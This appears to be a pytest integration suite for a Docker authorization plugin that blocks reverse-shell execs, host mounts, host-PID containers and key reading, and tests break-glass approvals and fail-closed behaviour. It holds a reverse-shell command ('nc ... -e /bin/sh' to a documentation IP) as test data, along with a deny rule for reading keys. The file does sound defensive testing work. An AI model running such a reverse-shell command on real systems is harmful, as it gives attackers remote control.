"""guard docker-authz for real: the CLI serves the plugin socket, a real dockerd is started with
--authorization-plugin=<unique name>, and the Docker SDK drives it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from execguard.testing.dockerd import (
    IMAGE,
    Dockerd,
    DockerdUnavailable,
    TLSFiles,
    make_test_certs,
    plugin_socket,
    start_dockerd,
    unique_plugin_name,
    why_unavailable,
)

pytestmark = pytest.mark.docker

REVERSE = ["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"]
HEAD = "apiVersion: execguard/v1\nkind: Policy\nentries:\n"


@dataclass
class Guarded:
    daemon: Dockerd
    name: str
    state: Path
    policy: Path
    proc: subprocess.Popen[bytes] | None = None
    tls: TLSFiles | None = None

    def tls_client(self) -> Any:
        """A client that shows the test client certificate: dockerd names its CN as the User."""
        import docker

        assert self.tls is not None and self.daemon.tcp_url is not None
        config = docker.tls.TLSConfig(
            client_cert=(str(self.tls.client_cert), str(self.tls.client_key)), ca_cert=str(self.tls.ca), verify=True
        )
        client = docker.DockerClient(base_url=self.daemon.tcp_url.replace("tcp://", "https://"), tls=config, timeout=60, version="1.41")
        client.api.trust_env = False  # REQUESTS_CA_BUNDLE in the environment would replace our CA
        return client

    def start_plugin(self) -> None:
        sock = plugin_socket(self.name)
        exe = Path(sys.executable).with_name("execguard")
        cmd = [str(exe), "guard", "docker-authz", "--socket", str(sock), "--policy", str(self.policy), "--state-dir", str(self.state),
               "--store", str(self.state / "guard.db")]  # fmt: skip
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 30
        while not sock.exists():
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise AssertionError(f"plugin did not start: {self.proc.stderr.read().decode() if self.proc.stderr else ''}")
            time.sleep(0.05)

    def stop_plugin(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(timeout=20)

    def records(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in (self.state / "decisions.jsonl").read_text().splitlines()]


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    reason = why_unavailable()
    required = os.environ.get("EXECGUARD_REQUIRE_DOCKER") == "1"
    if reason:
        pytest.fail(reason) if required else pytest.skip(reason)
    tmp = tmp_path_factory.mktemp("guard")
    policy = tmp / "policy.yml"
    policy.write_text(
        HEAD + "  - name: no-keys\n    action: deny\n    reason: nobody reads the keys by hand\n    match: {commands: ['cat /keys*']}\n"
    )
    g = Guarded(None, unique_plugin_name(), tmp / "state", policy)  # type: ignore[arg-type]
    g.start_plugin()
    try:
        g.tls = make_test_certs(tmp / "certs")
        g.daemon = start_dockerd(authz_plugins=(g.name,), tls=g.tls)
    except DockerdUnavailable as exc:
        g.stop_plugin()
        pytest.fail(str(exc)) if required else pytest.skip(str(exc))
    try:
        yield g
    finally:
        g.daemon.stop()
        g.stop_plugin()
        plugin_socket(g.name).unlink(missing_ok=True)


def test_allowed_exec_runs_and_malicious_exec_is_refused(guarded: Guarded) -> None:
    import docker

    client = guarded.daemon.client()
    web = client.containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name="web")
    assert web.exec_run(["echo", "hello"]).output == b"hello\n"
    with pytest.raises(docker.errors.APIError) as denied:
        web.exec_run(REVERSE)
    assert denied.value.status_code == 403
    assert "cmd-reverse-shell" in str(denied.value.explanation) and "execguard denied" in str(denied.value.explanation)
    # the daemon keeps serving everything else
    assert client.version()["ApiVersion"] and [c.name for c in client.containers.list()] == ["web"]
    assert web.exec_run(["id", "-u"]).output == b"0\n"
    kinds = [(r["kind"], r.get("operation"), r.get("allowed"), r.get("stage")) for r in guarded.records()]
    assert ("decision", "exec", False, None) in kinds and ("decision", "exec", True, "exec_start") in kinds


def test_malicious_create_is_refused(guarded: Guarded) -> None:
    import docker

    client = guarded.daemon.client()
    with pytest.raises(docker.errors.APIError) as mount:
        client.containers.create(IMAGE, ["sh"], volumes={"/": {"bind": "/host", "mode": "rw"}}, network_mode="none")
    assert mount.value.status_code == 403 and "docker-create-host-mount" in str(mount.value.explanation)
    with pytest.raises(docker.errors.APIError) as pid:
        client.containers.create(IMAGE, ["sh"], pid_mode="host", network_mode="none")
    assert "guard-create-host-pid" in str(pid.value.explanation)
    plain = client.containers.create(IMAGE, ["true"], network_mode="none")
    plain.remove()


def test_policy_deny_entry_then_bad_reload_keeps_it(guarded: Guarded) -> None:
    import docker

    client = guarded.daemon.client()
    box = client.containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name="box")
    with pytest.raises(docker.errors.APIError) as denied:
        client.api.exec_create("box", ["cat", "/keys/id_rsa"])  # by name, as the docker CLI sends it
    assert "policy entry no-keys" in str(denied.value.explanation) and "nobody reads the keys" in str(denied.value.explanation)
    assert box.exec_run(["ls", "/"]).exit_code == 0
    good = guarded.policy.read_text()
    guarded.policy.write_text(good + "    mode: sideways\n")
    assert guarded.proc is not None
    guarded.proc.send_signal(signal.SIGHUP)
    time.sleep(1.0)
    with pytest.raises(docker.errors.APIError):
        box.exec_run(["cat", "/keys"])  # the last good policy is still in force
    assert any(r["kind"] == "policy" and r["loaded"] is False for r in guarded.records())
    guarded.policy.write_text(good)


def test_break_glass_lets_the_approved_user_through(guarded: Guarded) -> None:
    """dockerd names a user only from a TLS client certificate (its CN); over the unix socket the user is empty."""
    import docker
    from typer.testing import CliRunner

    from execguard.cli import app

    client = guarded.tls_client()
    box = client.containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name="glass")
    with pytest.raises(docker.errors.APIError):
        box.exec_run(REVERSE)
    grant = [
        "guard",
        "approve",
        "--user",
        "execguard-test-client",
        "--for",
        "5m",
        "--reason",
        "INC-9 on call",
        "--state-dir",
        str(guarded.state),
    ]
    assert CliRunner().invoke(app, grant).exit_code == 0
    assert box.exec_run(REVERSE).exit_code != 0  # it ran (nc cannot connect: no network), it was not refused
    used = [r for r in guarded.records() if r["kind"] == "decision" and r.get("approval")]
    assert used and used[0]["user"] == "execguard-test-client" and used[0]["would_deny"] is True
    # the unix-socket client has no user, so the approval does not cover it
    with pytest.raises(docker.errors.APIError):
        guarded.daemon.client().containers.get("glass").exec_run(REVERSE)

    out = CliRunner().invoke(
        app, ["guard", "approve", "--user", "nobody-here", "--for", "5m", "--reason", "INC-1", "--state-dir", str(guarded.state)]
    )
    assert out.exit_code == 0 and out.stdout.startswith("approval ")
    assert any(r["kind"] == "approval" and r["user"] == "nobody-here" for r in guarded.records())

    # the plugin copies its record into the store (--store): the approval and the decision it allowed are there
    def stored(*args: str) -> list[dict[str, Any]]:
        out = CliRunner().invoke(app, ["guard", "decisions", "--store", str(guarded.state / "guard.db"), "-o", "jsonl", *args])
        assert out.exit_code == 0, out.stdout
        return [json.loads(line) for line in out.stdout.splitlines()]

    def copied() -> bool:  # the second approval is the record's last line: wait until it, too, is in the store
        return bool(stored("--decision", "approved")) and "nobody-here" in {r["user"] for r in stored("--kind", "approval")}

    deadline = time.monotonic() + 30  # copied every 0.2 s; a wait, not a timing assertion
    while not copied() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert stored("--decision", "approved")[0]["user"] == "execguard-test-client"
    assert {r["user"] for r in stored("--kind", "approval")} >= {"execguard-test-client", "nobody-here"}
    assert any(r["rules"][:1] == ["cmd-reverse-shell"] for r in stored("--decision", "deny"))


def test_plugin_down_fails_closed_then_recovers(guarded: Guarded) -> None:
    """dockerd retries the plugin for about 15 s, then refuses every call (500) until the plugin is back."""
    import docker

    client = guarded.daemon.client()
    guarded.stop_plugin()
    started = time.monotonic()
    with pytest.raises(docker.errors.APIError) as down:
        client.version()
    waited = time.monotonic() - started
    assert down.value.status_code == 500 and guarded.name in str(down.value.explanation)
    assert waited > 5  # the retry window, documented in docs/guard.md
    guarded.start_plugin()
    assert client.version()["ApiVersion"]
